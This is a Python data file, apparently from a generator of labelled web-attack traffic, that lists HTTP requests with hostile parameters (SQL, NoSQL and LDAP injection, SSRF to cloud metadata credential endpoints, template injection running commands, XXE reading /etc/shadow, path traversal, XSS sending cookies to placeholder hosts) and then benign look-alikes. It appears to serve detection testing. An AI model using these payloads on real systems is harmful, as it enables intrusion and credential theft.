"""Hostile values in parameters of interfaces, in forms beside the classic ones; and the same parameters in honest use."""

from generator.families.web.probe_story import probes, visits

probes("document-and-directory-queries", """
POST /api/login?q[$ne]=x&k[$ne]=x
GET /api/users?filter={"$where":"sleep(5000)||true"}
GET /api/user?id[$gt]=&role=admin
POST /login?q[$regex]=^adm&k[$exists]=true
GET /search?q=*)(uid=*))(|(uid=*
POST /auth?q=admin)(%26))&k=x
GET /xpath?name=%27%20or%20%27a%27=%27a
POST /rest/user/login?email=%27%20or%201=1--
POST /login.php?id=admin%27--%20&k=x
POST /api/auth?email=%22%20or%20%22%22=%22&password=%22%20or%20%22%22=%22
POST /Account/Login?ReturnUrl=%27)%20or%20(%27x%27=%27x
""", "SQL Injection — Authentication Bypass SQLi", "T1190", severity="CRITICAL")

probes("database-orders-in-parameters", """
GET /api/report?sort=(CASE%20WHEN%20(1=1)%20THEN%20SLEEP(5)%20ELSE%201%20END)
GET /item?id=1%20AND%20(SELECT%20*%20FROM%20(SELECT(SLEEP(5)))a)
GET /item?id=1)%20AND%20{n}=DBMS_PIPE.RECEIVE_MESSAGE(CHR(98),5)--
GET /news.php?id=1;WAITFOR%20DELAY%20'0:0:5'--
GET /shop?cat=1'||(SELECT%20pg_sleep(8))||'
GET /p?id=0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z
GET /view?id=1%20RLIKE%20(SELECT%20(CASE%20WHEN%201%20THEN%200x28%20ELSE%201%20END))
GET /api/items?id=1%20AND%20BENCHMARK(5000000,MD5(0x41))
GET /q?x=1%20AND%20randomblob(1000000000)
GET /list?o=extractvalue(1,concat(0x7e,sleep(5)))
""", "SQL Injection — Time-based Blind SQLi", "T1190", severity="CRITICAL")

probes("forged-requests", """
GET /api/preview?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/admin
GET /api/preview?url=http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token
GET /fetch?u=http://[::ffff:169.254.169.254]/latest/user-data
GET /fetch?u=gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall
GET /proxy?target=dict://localhost:11211/stats
GET /img?src=http://0177.0.0.1:2375/containers/json
GET /import?feed=http://2130706433:9200/_cat/indices
GET /webhook/test?endpoint=http://localhost:8500/v1/kv/?recurse
GET /screenshot?page=http://127.0.0.1:10250/pods
GET /pdf?html=%3Ciframe%20src=%22http://169.254.169.254/metadata/instance?api-version=2021-02-01%22%3E
GET /oembed?url=http://100.100.100.200/latest/meta-data/ram/security-credentials/
POST /api/avatar?from=http://169.254.170.2/v2/credentials/{uuid}
GET /go?to=http://spoofed.{strange}@127.0.0.1:8080/manager/html
GET /latex?src=ldap://{strange}:389/{word}
GET /_next/image?url=http://localhost:3000/admin&w=64&q=75
GET /uddiexplorer/SearchPublicRegistries.jsp?operator=http://127.0.0.1:7001&rdoSearch=name&btnSubmit=Search
GET /plugins/servlet/oauth/users/icon-uri?consumerUri=http://127.0.0.1:22
""", "Server-Side Request Forgery (SSRF) Attempt", "T1190", "T1552.005")

probes("templates-and-prototypes", """
GET /export?template={{config.__class__.__init__.__globals__['os'].popen('id').read()}}
GET /hello?name=${{7*7}}{{7*'7'}}
GET /render?x=<%25=%20system('id')%20%25>
GET /view?tpl={php}system('id');{/php}
GET /mail/preview?subject=#{T(java.lang.Runtime).getRuntime().exec('id')}
GET /p?name={{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('{cmd}')}}
GET /t?x={{''.constructor.constructor('return%20process')().mainModule.require('child_process').execSync('id')}}
GET /freemarker?n=<#assign%20ex='freemarker.template.utility.Execute'?new()>${ex('id')}
GET /velocity?v=%23set($e='e')$e.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')
GET /j?x={{request.application.__globals__.__builtins__.__import__('os').popen('{cmd}').read()}}
GET /razor?m=@System.Diagnostics.Process.Start('cmd.exe','/c%20whoami')
POST /api/merge?constructor[prototype][shell]=node&constructor[prototype][NODE_OPTIONS]=--require%20/proc/self/environ
GET /api/v1/profile?__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');x
GET /smarty?c={system('cat%20/etc/passwd')}
GET /p?x={{range.constructor(%22return%20global.process.mainModule.require('child_process').execSync('id')%22)()}}
POST /xml?d=<!DOCTYPE%20r%20[<!ENTITY%20x%20SYSTEM%20"file:///etc/passwd">]><r>%26x;</r>
POST /soap?d=<!ENTITY%20%25%20ext%20SYSTEM%20"http://{wan}/{word}.dtd">%25ext;
POST /import?d=<xi:include%20parse="text"%20href="file:///etc/shadow"/>
POST /upload/svg?d=<image%20xlink:href="expect://id"/>
""", "Remote Code Execution Exploit", "T1190", severity="CRITICAL")

probes("paths-out-of-the-site", """
GET /download?file=....//....//....//....//etc/shadow
GET /download?f=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd
GET /static/%5c..%5c..%5c..%5cwindows%5cwin.ini
GET /api/file?p=/proc/self/cmdline%00.png
GET /assets/..%252f..%252f..%252f..%252fetc/passwd
GET /static../.env
GET /img..;/..;/WEB-INF/web.xml
GET /files/..;/..;/META-INF/context.xml
GET /help?page=..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts
GET /logs?name=/var/log/auth.log%00
GET /index.php?page=php://filter/convert.base64-encode/resource=config
GET /index.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==
GET /index.php?inc=expect://id
GET /index.php?f=zip://uploads/{word}.jpg%23{word}
GET /index.php?f=phar://uploads/{word}.gif
GET /?template=../../../../../../var/log/apache2/access.log
GET /read?path=C:%5cinetpub%5cwwwroot%5cweb.config
GET /doc?name=file%3a%2f%2f%2fetc%2fpasswd
GET /a/b/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/root/.ssh/id_rsa
GET /wp-content/plugins/{word}/download.php?file=../../../wp-config.php
""", "Local File Inclusion (LFI) Attack", "T1083", "T1190")

probes("header-and-line-breaks", """
GET /?x=%0d%0aSet-Cookie:%20admin=1
GET /redirect?url=%0d%0aLocation:%20http://{strange}
GET /page?lang=en%0aX-Injected:%201%0d%0a%0d%0a<script>alert(1)</script>
GET /%0d%0a%20<script>alert(document.domain)</script>
GET /%3f%0d%0aX-XSS-Protection:0%0d%0a%0d%0a<svg/onload=alert(1)>
GET /search?q="><img%20src=x%20onerror=fetch('//{strange}/'%2bdocument.cookie)>
GET /profile?bio=<details%20open%20ontoggle=import('//{strange}/{word}.js')>
GET /error?msg=<svg><animate%20onbegin=alert(1)%20attributeName=x>
GET /login?next=javascript:fetch(`//{strange}?c=`%2bdocument.cookie)
GET /q?s='-confirm`1`-'
GET /tag?x={{constructor.constructor('alert(1)')()}}
GET /c?x=<script>new%20Image().src='http://{wan}/?'%2bdocument.cookie</script>
GET /?name=%3Cimg%2Fsrc%3D%60x%60onerror%3Deval(atob('{hex}'))%3E
""", "Cross-Site Scripting (XSS) Attempt", "T1059.007")

visits("interfaces-in-honest-use", """
POST /graphql?operationName=GetCart
POST /graphql?query=%7B__typename%7D
POST /api/login
GET /api/users?filter={"status":"active","$limit":20}
GET /api/items?filter[where][price][gt]=100&filter[limit]=10
GET /api/user?id[]=3&id[]=4
GET /search?q=cn%3D{user}
GET /api/login?q[eq]=x&k[in]=a,b
GET /api/report?sort=-created_at&order=desc&group=union
GET /api/v1/profile?fields=id,name,role
GET /api/preview?url=https%3A%2F%2Fwww.{domain}%2Fblog%2F
GET /proxy?target=https://api.{domain}/v2/weather
GET /_next/image?url=%2Fimages%2Fhero.jpg&w=640&q=75
GET /oembed?url=https://www.youtube.com/watch?v={hex}&format=json
POST /webhook/test?endpoint=https://hooks.slack.com/services/T0/B0/{hex}
GET /redirect?url=https%3A%2F%2F{domain}%2Fkonto
GET /login?next=/account/orders
GET /mail/preview?subject=Hello%20{{first_name}}
GET /export?template=invoice-{{year}}.docx
GET /newsletter?title=${campaign}
GET /render?x=%7B%7B%20order.total%20%7D%7D
GET /download?file=reports/2023/{file}
GET /files/../files/{file} 301,200
GET /static/css/../img/logo.png
GET /help?page=windows/drivers
GET /logs?name=access.log&lines=200
GET /index.php?page=contact&lang=de
POST /xml?d=%3Corder%3E%3Cid%3E{n}%3C%2Fid%3E%3C%2Forder%3E
POST /soap/OrderService?wsdl
POST /upload/svg?name={file}
GET /q?s=it%27s%20%22fine%22
GET /search?q=%3Cscript%3E+tag+in+wordpress
GET /?name=Conan%20O%27Brien
GET /news.php?id={n}&delay=5
GET /shop?cat={n}%27%20rug
""")
